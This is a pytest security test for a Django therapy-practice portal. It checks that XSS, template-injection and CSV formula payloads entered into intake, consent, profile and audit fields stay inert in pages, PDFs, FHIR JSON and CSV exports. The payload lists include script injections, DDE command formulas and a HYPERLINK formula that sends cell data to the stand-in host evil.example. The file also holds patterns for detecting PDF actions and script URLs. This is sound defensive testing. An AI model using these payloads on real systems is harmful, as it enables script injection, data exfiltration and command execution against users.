"""Script, markup, template and spreadsheet-formula payloads, typed into every field a client
or staff member can write that is shown again, then every page, PDF and export that shows
them is read back: the payloads are inert everywhere.

- HTML: the payload appears escaped where the field is shown (so the test knows it looked at
  the right place), never raw; no element carries an event handler, a ``javascript:`` URL,
  an inline script, a frame or a ``<base>``; template syntax shows as typed.
- PDF: the payload is drawn as text, and the file holds no action (JavaScript, launch,
  open action, form submission).
- JSON (FHIR): valid, with the payload only inside string values; never served as HTML.
- CSV (consent register, audit trail): no cell starts with ``= + - @``, tab or carriage
  return, though emails and user agents that begin with them are in the files.

The payloads go in through the real views (the client's pages, the staff pages), except
the client's record (``ClientProfile``), written directly so that it can hold a phone
"number" the details page would refuse; the intake's own answers go in through the page.
"""

from __future__ import annotations

import csv
import html
import io
import json
import re
import uuid
import zlib
from collections.abc import Iterator
from html.parser import HTMLParser
from http import HTTPStatus
from typing import Any
from urllib.parse import urlencode

import markupsafe
import pytest
from django.core.validators import validate_email
from django.test import Client
from django.urls import reverse

from consents.models import ConsentDocument, ConsentSignature, ReleaseAuthorization
from intake.forms import LISTED_FIELD, group_field_name
from intake.models import Intake
from intake.schema import TEXT_TYPES, Question
from portal.models import CareAssignment, ClientProfile, Invitation, PracticeSettings, User
from portal.roles import Role
from tests.factories import UserFactory
from tests.helpers import body_bytes, closing_acknowledgement, published_version
from tests.helpers import unescape_pdf_string as _unescape
from tests.hostile import World, build_world
from tests.intake_data import answers_by_section

pytestmark = pytest.mark.django_db

PAYLOADS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "javascript:alert(1)",
    '<a href="javascript:alert(1)">click</a>',
    "<iframe src=javascript:alert(1)></iframe>",
    "</textarea></title><script>alert(1)</script>",
    "{{7*7}}", "{% debug %}", "{{ request.user.password }}",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
)
# Everything at once, for the long fields (up to 500 characters).
LONG = " ".join(PAYLOADS)
# The markup and template payloads in 120 characters, for names (the practice's name holds
# 120); it has letters, so it can sign.
CORE = ("<script>alert(1)</script>\"><img src=x onerror=alert(1)><svg onload=alert(1)>"
        "{{7*7}}{% debug %}")
SHORT = "<svg onload=alert(1)>"
# A consent document written in Markdown with raw HTML in it: the sanitiser must drop it.
MARKDOWN = """# Fees <script>alert(1)</script>

[click me](javascript:alert(1)) <a href="javascript:alert(1)" onclick="alert(1)">raw</a>

<img src=x onerror=alert(1)> <svg onload=alert(1)></svg> <iframe src="https://evil.example">
</iframe> <object data="x"></object> <base href="https://evil.example/">
<style>body { display: none }</style> <form action="https://evil.example"><input></form>
<meta http-equiv="refresh" content="0;url=https://evil.example">

{{7*7}} {% debug %} [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
"""
# Emails a person can really have (each passes Django's EmailValidator) that are markup, or
# that a spreadsheet would run as a formula.
HTML_EMAILS = ('"<script>alert(1)</script>"@example.com',
               '"<img/src=x/onerror=alert(1)>"@example.com')
INVITED_EMAILS = ('"<svg/onload=alert(1)>"@example.com', "\"'><b>x</b>\"@example.com")
FORMULA_EMAILS = ("=cmd|'/Ccalc'!A0@example.com", "+1+cmd@example.com", "-1+cmd@example.com")
FORMULA_AGENTS = ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0",
                  "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1")

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
URL_ATTRIBUTES = frozenset({"href", "src", "action", "formaction", "xlink:href", "data",
                            "poster", "background", "srcdoc"})
NAVIGABLE_TAGS = frozenset({"a", "area", "iframe", "frame", "object", "embed", "form",
                            "button", "input"})
FORBIDDEN_TAGS = frozenset({"iframe", "frame", "object", "embed", "base", "applet"})
# Anything in a PDF that runs or fetches something. An /OpenAction that is only a
# destination array (fpdf2's "open at page 1, fit width") is no action: one that opens a
# dictionary is.
PDF_ACTIONS = re.compile(rb"/(?:JavaScript|JS|Launch|AA|SubmitForm|ImportData|RichMedia|"
                         rb"EmbeddedFile|GoToR)\b|/OpenAction\s*<<|/URI\s*\(\s*javascript",
                         re.I)
_OBJECT_START = re.compile(rb"(\d+) 0 obj")
_CONTENT_TOKEN = re.compile(
    rb"/(?P<font>F\w+)\s+[\d.]+\s+Tf|\((?P<literal>(?:\\.|[^\\)])*)\)|(?P<end>\bET\b)", re.S)


# --- Reading what came back -------------------------------------------------------------------


def _runs_script(tag: str, url: str) -> bool:
    """A ``javascript:``/``vbscript:`` URL anywhere, or a ``data:`` URL a browser would
    open as a document (the base template's blank icon, ``<link href="data:,">``, is not)."""
    plain = re.sub(r"[\s\x00-\x1f]", "", url).lower()
    scheme, _, rest = plain.partition(":")
    if scheme in ("javascript", "vbscript"):
        return True
    return scheme == "data" and (tag in NAVIGABLE_TAGS or rest.startswith(
        ("text/html", "application/xhtml", "image/svg")))


# The one script the portal serves itself rather than from /static/: the words of its
# scripts in the page's language (Django's JavaScript catalog, no user data in it).
OUR_SCRIPT_CATALOG = "/jsi18n/"


class _Inspector(HTMLParser):
    """Collects every element that could run script."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = {name: value or "" for name, value in attrs}
        for name, value in names.items():
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=...>: an event handler")
            if name in URL_ATTRIBUTES and _runs_script(tag, value):
                self.problems.append(f"<{tag} {name}={value[:40]!r}>: a script URL")
        if tag == "script" and "src" not in names and names.get("type") != "application/json":
            self.problems.append("an inline <script>")
        if tag == "script" and "src" in names and not (
                names["src"].startswith("/static/") or names["src"] == OUR_SCRIPT_CATALOG):
            self.problems.append(f"a script from elsewhere: {names['src'][:60]}")
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"a <{tag}>")
        if tag == "meta" and names.get("http-equiv", "").lower() == "refresh":
            self.problems.append("a meta refresh")


def html_problems(body: str, must_show: tuple[str, ...] = ()) -> list[str]:
    inspector = _Inspector()
    inspector.feed(body)
    problems = inspector.problems
    for payload in (*PAYLOADS, CORE, SHORT, *HTML_EMAILS, *INVITED_EMAILS):
        if "<" in payload and payload in body:
            problems.append(f"raw payload in the page: {payload[:40]!r}")
    # Escaped as Django's templates escape (&quot; &#x27;) or as Jinja2's form widgets do
    # (&#34; &#39;): the same characters made inert.
    problems += [f"not shown escaped: {value[:50]!r}" for value in must_show
                 if html.escape(value) not in body and str(markupsafe.escape(value)) not in body]
    return problems


def _squeezed(text: str) -> str:
    return re.sub(r"\s+", "", text)


def _pdf_object_spans(pdf: bytes) -> Iterator[tuple[bytes, bytes, bytes, slice]]:
    """Each object's number, dictionary, stream (inflated when compressed) and where its raw
    stream bytes lie in the file. A stream is read by its ``/Length``, never by searching for
    ``endstream``: compressed bytes may hold ``endobj`` or ``endstream`` by chance."""
    position = 0
    while match := _OBJECT_START.search(pdf, position):
        start = match.end()
        end = pdf.find(b"endobj", start)
        head, stream, raw = pdf[start:end], b"", slice(end, end)
        keyword = head.find(b"stream")
        length = re.search(rb"/Length (\d+)(?! \d+ R)", head[:keyword]) if keyword >= 0 else None
        if length is not None:
            head = head[:keyword]
            data = start + keyword + len(b"stream")
            data += 2 if pdf[data:data + 2] == b"\r\n" else 1
            raw = slice(data, data + int(length.group(1)))
            stream = pdf[raw]
            end = pdf.find(b"endobj", raw.stop)
            if b"/FlateDecode" in head:
                stream = zlib.decompress(stream)
        yield match.group(1), head, stream, raw
        position = end + len(b"endobj")


def _pdf_objects(pdf: bytes) -> dict[bytes, tuple[bytes, bytes]]:
    """Each object's dictionary and its stream (inflated when compressed)."""
    return {number: (head, stream) for number, head, stream, _ in _pdf_object_spans(pdf)}


def _pdf_dictionaries(pdf: bytes) -> bytes:
    """Everything in the file a reader takes as objects, dictionaries and the trailer: the
    file with its stream data cut out, and the inflated object streams (which hold further
    objects). Page contents, fonts and images are left out: they cannot hold an action, and
    their bytes (compressed or binary) hold ``/AA`` or ``/JS`` by chance."""
    kept, object_streams, position = [], [], 0
    for _, head, stream, raw in _pdf_object_spans(pdf):
        kept.append(pdf[position:raw.start])
        position = raw.stop
        if b"/ObjStm" in head:
            object_streams.append(stream)
    kept.append(pdf[position:])
    return b"\n".join(kept + object_streams)


def _cmap(stream: bytes) -> dict[bytes, str]:
    mapping = {}
    for block in re.findall(rb"beginbfchar(.*?)endbfchar", stream, re.S):
        for code, text in re.findall(rb"<([0-9A-Fa-f]+)>\s*<([0-9A-Fa-f]+)>", block):
            mapping[bytes.fromhex(code.decode())] = bytes.fromhex(text.decode()).decode(
                "utf-16-be")
    return mapping


def pdf_drawn_text(pdf: bytes) -> str:
    """The text drawn on the pages of an fpdf2 PDF, compressed or not, whatever fonts it
    switches between: each string is read through the ToUnicode map of the font in use
    (``tests.test_intake_exports.pdf_text`` reads uncompressed files with one font)."""
    objects = _pdf_objects(pdf)
    fonts: dict[bytes, dict[bytes, str]] = {}
    for name, number in re.findall(rb"/(F\w+) (\d+) 0 R", pdf):
        head = objects.get(number, (b"", b""))[0]
        if unicode := re.search(rb"/ToUnicode (\d+) 0 R", head):
            fonts[name] = _cmap(objects[unicode.group(1)][1])
    lines: list[str] = []
    for head, _ in objects.values():
        if b"/Type /Page\n" not in head:
            continue
        contents = re.search(rb"/Contents (\d+) 0 R", head)
        content = objects[contents.group(1)][1] if contents else b""
        font: dict[bytes, str] | None = None
        line = []
        for token in _CONTENT_TOKEN.finditer(content):
            if token.group("font"):
                font = fonts.get(token.group("font"))
            elif token.group("literal") is not None:
                raw = _unescape(token.group("literal"))
                if font is None:  # a standard font: Windows-1252
                    line.append(raw.decode("cp1252", errors="replace"))
                else:
                    line.append("".join(font.get(raw[i:i + 2], "\ufffd")
                                        for i in range(0, len(raw), 2)))
            else:
                lines.append("".join(line))
                line = []
    return "\n".join(lines)


def pdf_problems(pdf: bytes, must_show: tuple[str, ...] = ()) -> list[str]:
    problems = [f"a PDF action: {match.decode(errors='replace')}"
                for match in PDF_ACTIONS.findall(_pdf_dictionaries(pdf))]
    text = _squeezed(pdf_drawn_text(pdf))
    problems += [f"not drawn as text: {value[:50]!r}" for value in must_show
                 if _squeezed(value) not in text]
    return problems


def _strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, item in value.items():
            yield from _strings(key)
            yield from _strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from _strings(item)


def json_problems(content: bytes, must_show: tuple[str, ...] = ()) -> list[str]:
    document = json.loads(content)
    strings = list(_strings(document))
    return [f"not a string value: {value[:50]!r}" for value in must_show
            if not any(value in string for string in strings)]


def csv_problems(content: str, must_contain: tuple[str, ...] = ()) -> list[str]:
    """Cells a spreadsheet would run; and each of ``must_contain`` present, neutralised."""
    cells = [cell for row in csv.reader(io.StringIO(content, newline="")) for cell in row]
    problems = [f"a formula cell: {cell[:50]!r}" for cell in cells
                if cell.startswith(FORMULA_STARTS)]
    problems += [f"missing from the file: {value[:50]!r}" for value in must_contain
                 if not any(value in cell for cell in cells)]
    return problems


# --- Writing the payloads in ---------------------------------------------------------------------


def _fitting(question: Question) -> str:
    limit = question.max_length or 0
    return next(value for value in (LONG, CORE, SHORT) if len(value) <= limit)


def _intake_posts(intake: Intake) -> dict[str, dict[str, Any]]:
    """Every page of the intake as posted: the required answers, a safety answer (so there
    is an alert to acknowledge), the branches that show more text questions, and a payload
    in every text question and group entry."""
    questionnaire = intake.questionnaire.questionnaire
    pages = answers_by_section(item_9=2)
    pages["relationships"]["earlier_therapy"] = "yes"
    pages["safety"]["unsafe_at_home"] = "yes"
    heard = questionnaire.question("heard_about_us")
    if "other" in heard.option_values():
        pages["about_you"]["heard_about_us"] = "other"
    for section in questionnaire.sections:
        posted = pages.setdefault(section.id, {})
        for question in section.questions:
            if question.type in TEXT_TYPES:
                posted[question.id] = _fitting(question)
            elif question.type == "group":
                for child in question.questions:
                    name = group_field_name(question.id, 1, child.id)
                    posted[name] = (_fitting(child) if child.type in TEXT_TYPES
                                    else str(child.options[0].value))
    return pages


def _typed_answers(intake: Intake) -> tuple[str, ...]:
    questionnaire = intake.questionnaire.questionnaire
    return tuple({_fitting(q) for s in questionnaire.sections for q in s.questions
                  if q.type in TEXT_TYPES})


def _query(**values: str) -> str:
    return urlencode(values)


def _ok(response: Any, *expected: int) -> Any:
    assert response.status_code in (expected or (HTTPStatus.OK,)), (
        response.status_code, response.content[:300])
    return response


def _fill_and_submit_intake(http: Client, intake: Intake) -> None:
    """Autosave every page through the real endpoint, then send the intake."""
    for section, answers in _intake_posts(intake).items():
        intake.refresh_from_db()
        questions = [q.id for q in intake.questionnaire.questionnaire.section(section).questions]
        data = {"section": section, "revision": str(intake.revision),
                LISTED_FIELD: questions, **answers}
        saved = _ok(http.post(reverse("intake_autosave", args=[intake.id]), data)).json()
        assert saved["errors"] == {}, (section, saved["errors"])
    intake.refresh_from_db()
    _ok(http.post(reverse("intake_submit", args=[intake.id]),
                  {"revision": str(intake.revision)}), HTTPStatus.FOUND)


@pytest.fixture
def world() -> World:
    world = build_world(signed_in=("client", "clinician", "admin"))
    client = world.people["client"]
    # The legal name on record is the payload, so the client signs with the payload too.
    # The details page would refuse SHORT as a phone number, so the record is written here.
    ClientProfile.objects.update_or_create(
        user=client, defaults={"legal_name": CORE, "address": LONG, "phone": SHORT})
    for email in (*HTML_EMAILS, *FORMULA_EMAILS, *INVITED_EMAILS):
        validate_email(email)
    for email in (*HTML_EMAILS, *FORMULA_EMAILS):
        other = UserFactory(role=Role.CLIENT, email=email)
        CareAssignment.objects.create(client=other, clinician=world.people["clinician"])
    return world


def _write_everything(world: World) -> dict[str, Any]:
    """Every writable field that is shown again gets its payload, through the views."""
    admin, client, clinician = (world.http[name] for name in ("admin", "client", "clinician"))
    written: dict[str, Any] = {}
    # The practice admin: the practice's name and crisis text, invitations, a consent text.
    _ok(admin.post(reverse("practice_settings"), {
        "name": CORE, "contact_email": "desk@example.com", "contact_phone": SHORT,
        "address": LONG, "crisis_text": LONG, "idle_timeout_minutes": "30",
        "safety_alert_draft_hours": "24", "intake_reminder_after_days": "3",
        "intake_reminder_every_days": "4", "intake_reminder_max": "3",
        "consent_expiry_reminder_days": "14",
    }), HTTPStatus.FOUND)
    for email in INVITED_EMAILS:
        _ok(admin.post(reverse("invitation_list"), {"email": email}), HTTPStatus.FOUND)
    draft = world.objects["draft_version"]
    _ok(admin.post(reverse("consent_version_edit", args=[draft.id]), {
        "summary": CORE, "body": MARKDOWN, "effective_date": "2030-01-01",
        "change_note": LONG,
    }), HTTPStatus.FOUND)
    _ok(admin.post(reverse("consent_version_publish", args=[draft.id])), HTTPStatus.FOUND)
    # The client: signatures with the payload as their name, an authorization, a withdrawal
    # with a reason, each from a browser whose user agent is a formula.
    agents = iter(FORMULA_AGENTS * 3)
    for kind in ("telehealth", "fees"):
        version = published_version(ConsentDocument.objects.get(kind=kind))
        _ok(client.post(reverse("consent_sign", args=[version.id]), {
            "typed_name": CORE, "agreed": "on", "sha256": version.sha256,
        }, HTTP_USER_AGENT=next(agents)), HTTPStatus.FOUND)
        written[kind] = ConsentSignature.objects.get(client=world.people["client"],
                                                     version=version)
    release = world.objects["release_version"]
    _ok(client.post(reverse("consent_sign", args=[release.id]), {
        "information": LONG, "discloser": CORE, "recipient": LONG, "purpose": LONG,
        "expiry_event": CORE, "submission": str(uuid.uuid4()), "typed_name": CORE,
        "agreed": "on", "sha256": release.sha256,
    }, HTTP_USER_AGENT=next(agents)), HTTPStatus.FOUND)
    written["authorization"] = ConsentSignature.objects.filter(
        client=world.people["client"], version=release).latest("signed_at")
    _ok(client.post(reverse("consent_withdraw", args=[written["telehealth"].id]),
                    {"reason": LONG}, HTTP_USER_AGENT=next(agents)), HTTPStatus.FOUND)
    # The audit trail keeps the user agent of staff actions and security events.
    for agent in FORMULA_AGENTS:
        _ok(admin.get(reverse("client_profile", args=[world.people["client"].id]),
                      HTTP_USER_AGENT=agent))
        Client().post(reverse("account_login"), {"login": "client@example.com",
                                                 "password": "wrong"}, HTTP_USER_AGENT=agent)
    # The client's intake, every text answer a payload; then the clinician's note.
    intake = world.objects["draft_intake"]
    _fill_and_submit_intake(client, intake)
    written["intake"] = intake
    _ok(clinician.post(reverse("staff_intake_acknowledge", args=[intake.id]),
                       {"note": LONG}), HTTPStatus.FOUND)
    # A check-in's safety alert (issue 18), acknowledged with the same note.
    _ok(clinician.post(reverse("staff_alert_acknowledge",
                               args=[world.objects["check_in_alert"].id]),
                       {"note": LONG}), HTTPStatus.FOUND)
    return written


def test_payloads_typed_anywhere_stay_inert_everywhere(world: World) -> None:
    """One practice full of payloads, written once; then what was stored, every page, and
    every download."""
    written = _write_everything(world)
    _stored_as_typed(written)
    _pages_show_them_inert(world, written)
    _downloads_carry_them_inert(world, written)


def _stored_as_typed(written: dict[str, Any]) -> None:
    """The payloads are kept exactly as typed (escaping is the pages' job, not storage's),
    so the pages below are really showing them."""
    assert PracticeSettings.load().name == CORE
    written["telehealth"].refresh_from_db()
    assert written["telehealth"].typed_name == CORE
    assert written["telehealth"].withdrawal_reason == LONG
    details = ReleaseAuthorization.objects.get(signature=written["authorization"])
    assert (details.information, details.recipient, details.purpose) == (LONG, LONG, LONG)
    intake = Intake.objects.get(pk=written["intake"].pk)
    assert intake.answers["in_your_own_words"] == LONG
    assert closing_acknowledgement(intake.safety_alert).note == LONG
    assert set(Invitation.objects.values_list("email", flat=True)) >= set(INVITED_EMAILS)


def _pages_show_them_inert(world: World, written: dict[str, Any]) -> None:
    intake, telehealth, authorization = (
        written[k] for k in ("intake", "telehealth", "authorization"))
    answers = _typed_answers(intake)
    client_a = world.people["client"]
    html_client_id = User.objects.get(email=HTML_EMAILS[0]).pk
    fees_version = published_version(ConsentDocument.objects.get(kind="fees"))
    pages: list[tuple[str, str, tuple[str, ...]]] = [
        # (who, URL, values the page must show escaped)
        ("client", reverse("client_home"), (CORE, LONG)),
        ("client", reverse("intake_home"), (CORE,)),
        ("client", reverse("intake_submitted", args=[intake.id]), answers),
        ("client", reverse("consent_list"), (LONG,)),
        ("client", reverse("consent_signed", args=[telehealth.id]), (CORE,)),
        ("client", reverse("consent_signed", args=[authorization.id]), (LONG, CORE)),
        ("client", reverse("consent_withdraw", args=[authorization.id]), (LONG,)),
        ("client", reverse("consent_sign", args=[fees_version.id]), (CORE,)),
        ("client", reverse("record_access"), ()),
        ("clinician", reverse("staff_home"), ()),
        ("clinician", reverse("staff_intake_list"), ()),
        ("clinician", reverse("staff_intake_detail", args=[intake.id]), (*answers, LONG)),
        ("clinician", reverse("client_list"), HTML_EMAILS),
        ("clinician", reverse("staff_alert_detail", args=[world.objects["check_in_alert"].id]),
         (LONG,)),
        ("clinician", reverse("measures_staff_schedule", args=[client_a.id]), ()),
        ("client", reverse("measures_check_ins"), ()),
        ("client", reverse("measures_check_in_page", args=[world.objects["check_in"].id,
                                                         "phq9"]), ()),
        ("clinician", reverse("audit_log"), ()),
        ("admin", reverse("client_profile", args=[client_a.id]), (CORE, LONG, SHORT)),
        ("admin", reverse("client_profile", args=[html_client_id]), (HTML_EMAILS[0],)),
        ("admin", reverse("consent_client_timeline", args=[client_a.id]), ()),
        ("admin", reverse("consent_dashboard"), ()),
        ("admin", reverse("consent_outstanding"), HTML_EMAILS),
        ("admin", reverse("invitation_list"), INVITED_EMAILS),
        ("admin", reverse("consent_version_preview", args=[fees_version.id]), (CORE,)),
        ("admin", reverse("practice_settings"), (CORE, LONG, SHORT)),
        ("admin", reverse("audit_log"), ()),
        # Reflected: hostile values in the query string.
        ("admin", reverse("audit_log") + "?" + _query(client=CORE, action=CORE,
                                                       date_from=CORE), ()),
        ("admin", reverse("consent_outstanding") + "?" + _query(document=CORE, state=CORE,
                                                                page=CORE), ()),
        ("clinician", reverse("staff_intake_list") + "?" + _query(page=CORE), ()),
        ("admin", reverse("outgoing_messages") + "?" + _query(page=CORE), ()),
        ("anonymous", reverse("home"), (CORE, LONG)),
        ("anonymous", reverse("account_login") + "?" + _query(next=CORE), (CORE,)),
        ("anonymous", reverse("account_signup"), (CORE,)),
        ("anonymous", reverse("account_reset_password"), (CORE,)),
    ]
    failures = []
    for who, url, must_show in pages:
        response = world.http[who].get(url)
        assert response.status_code == HTTPStatus.OK, (who, url, response.status_code)
        assert response["Content-Type"].startswith("text/html"), url
        failures += [f"{who} {url}: {p}" for p in html_problems(response.content.decode(),
                                                                 must_show)]
    # A client search that cannot run shows the term back in the box; one that runs
    # redirects to its results, which never show the term.
    response = world.http["admin"].post(reverse("client_list"), {"q": CORE, "by": "phone"})
    failures += [f"search: {p}" for p in html_problems(response.content.decode(), (CORE,))]
    response = world.http["admin"].post(reverse("client_list"), {"q": CORE, "by": "name"},
                                        follow=True)
    failures += [f"search results: {p}" for p in html_problems(response.content.decode())]
    assert not failures, "\n".join(failures)


def _downloads_carry_them_inert(world: World, written: dict[str, Any]) -> None:
    intake, telehealth, authorization = (
        written[k] for k in ("intake", "telehealth", "authorization"))
    answers = _typed_answers(intake)
    failures = []
    pdfs = [
        ("client", reverse("intake_pdf", args=[intake.id]), answers),
        ("clinician", reverse("staff_intake_pdf", args=[intake.id]), answers),
        ("client", reverse("consent_signature_pdf", args=[telehealth.id]), (CORE,)),
        ("client", reverse("consent_signature_pdf", args=[authorization.id]), (LONG, CORE)),
        ("admin", reverse("staff_consent_signature_pdf", args=[authorization.id]),
         (LONG, CORE)),
    ]
    for who, url, must_show in pdfs:
        response = world.http[who].get(url)
        assert response.status_code == HTTPStatus.OK, (url, response.status_code)
        assert response["Content-Type"] == "application/pdf", url
        failures += [f"{url}: {p}" for p in pdf_problems(response.content, must_show)]
        # The document information names what the copy is, and holds the practice's name
        # as an escaped PDF string (its brackets cannot end the string early).
        subject = b"signed consent" if "signature" in url else b"submitted intake"
        if not re.search(rb"/Subject \(Copy of a " + subject, response.content):
            failures.append(f"{url}: the wrong /Subject")
        if b"/Author (<script>alert\\(1\\)</script>" not in response.content:
            failures.append(f"{url}: the practice's name not an escaped PDF string")
    for url, must_show in [
        (reverse("staff_intake_fhir", args=[intake.id]), answers),
        (reverse("staff_consent_signature_fhir", args=[authorization.id]), ()),
        (reverse("staff_consent_signature_fhir", args=[telehealth.id]), ()),
    ]:
        response = world.http["clinician"].get(url)
        assert response.status_code == HTTPStatus.OK, (url, response.status_code)
        assert response["Content-Type"].startswith("application/fhir+json"), url
        assert response["X-Content-Type-Options"] == "nosniff"
        failures += [f"{url}: {p}" for p in json_problems(response.content, must_show)]
    for url, must_contain in [
        (reverse("consent_register_csv"), tuple(f"'{email}" for email in FORMULA_EMAILS)),
        # The trail drops control characters from user agents ("\t=1+1" is kept as "=1+1").
        (reverse("audit_export"), tuple(f"'{agent.strip()}" for agent in FORMULA_AGENTS)),
    ]:
        response = world.http["admin"].get(url)
        assert response.status_code == HTTPStatus.OK, (url, response.status_code)
        assert response["Content-Type"].startswith("text/csv"), url
        content = body_bytes(response).decode()
        failures += [f"{url}: {p}" for p in csv_problems(content, must_contain)]
    assert not failures, "\n".join(failures)


def test_the_checks_would_see_a_live_payload() -> None:
    """The readers above catch what they are for (so a pass means something)."""
    assert html_problems('<p><img src="x" onerror="alert(1)"></p>')
    assert html_problems('<a href=" JaVaScRiPt:alert(1)">x</a>')
    assert html_problems('<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>')
    assert not html_problems('<link rel="icon" href="data:,">')
    assert html_problems("<script>alert(1)</script>")
    assert html_problems("<p>&lt;b&gt;</p>", must_show=("<i>",))
    assert not html_problems('<script src="/static/x.js"></script><p>&lt;script&gt;</p>')
    assert csv_problems('a,=1+1\r\n')
    assert csv_problems("a,'=1+1\r\n", must_contain=("'@x",))
    assert not csv_problems("a,'=1+1\r\n", must_contain=("'=1+1",))
    assert pdf_problems(b"1 0 obj << /OpenAction << /S /JavaScript >> >> endobj")
    assert not pdf_problems(b"<< /OpenAction [3 0 R /FitH null] >>")
    # Stream bytes that hold "/AA" by chance (a font, an image) are no action; an object
    # stream is read as the dictionaries it holds.
    chance = b"/Aa\x00"
    assert not pdf_problems(b"1 0 obj << /Length 4 >> stream\n" + chance + b"\nendstream endobj")
    held = b"<< /AA << /O 3 0 R >> >>"
    assert pdf_problems(b"2 0 obj << /Type /ObjStm /Length %d >> stream\n" % len(held) + held
                        + b"\nendstream endobj")
    assert json_problems(b'{"a": 1}', must_show=("x",))
